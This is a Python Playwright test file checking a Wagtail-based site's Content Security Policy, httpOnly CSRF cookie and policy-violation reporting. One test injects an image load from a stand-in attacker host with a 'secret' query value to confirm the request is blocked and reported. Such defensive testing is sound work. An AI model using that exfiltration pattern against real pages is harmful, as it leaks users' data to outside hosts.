"""The rules that pages give to browsers, as a browser keeps them: in the admin and on the public site."""

import json

ADDRESSES = (
    "/admin/",
    "/admin/pages/",
    "/admin/images/",
    "/admin/reports/reads/",
    "/admin/reader-comments/",
    "/admin/organisations/",
    "/admin/account/",
)
PUBLIC = ("/", "/search/?q=公文", "/accounts/login/", "/accounts/signup/organisation/")


def complaints(page, addresses):
    """What the console says of broken rules while the pages are opened one after the other."""
    found = []
    page.on(
        "console",
        lambda message: (
            found.append(message.text) if "Content Security Policy" in message.text else None
        ),
    )
    for address in addresses:
        page.goto(address)
        page.wait_for_load_state("load")
    return found


def test_pages_of_the_admin_and_of_the_site_keep_their_rules(open_page):
    manager = open_page("manager")
    assert complaints(manager, ADDRESSES) == []
    assert complaints(open_page(), PUBLIC) == []


def test_no_script_reads_the_token_and_the_admin_works_all_the_same(open_page):
    page = open_page("author")
    assert complaints(page, ["/admin/images/add/"]) == []
    assert any(
        cookie["name"] == "csrftoken" and cookie["httpOnly"] for cookie in page.context.cookies()
    )
    assert "csrftoken" not in page.evaluate("document.cookie")
    status = page.evaluate(
        """async () => {
            const config = JSON.parse(document.getElementById("wagtail-config").textContent);
            const headers = {[config.CSRF_HEADER_NAME]: config.CSRF_TOKEN};
            return (await fetch("/admin/account/", {method: "POST", headers})).status;
        }"""
    )
    assert status == 200


def test_what_an_admin_page_loads_from_elsewhere_is_reported(open_page):
    page = open_page("admin")
    page.goto("/admin/")
    with page.expect_request("**/admin/policy-reports/") as sent:
        page.evaluate("new Image().src = 'https://evil.example/x.png?secret=1'")
    report = json.loads(sent.value.post_data_buffer)
    assert report["csp-report"]["effective-directive"] == "img-src"
    page.goto("/admin/reports/policy/")
    page.get_by_text("evil.example").wait_for()
    assert "secret" not in page.locator("main").inner_text()
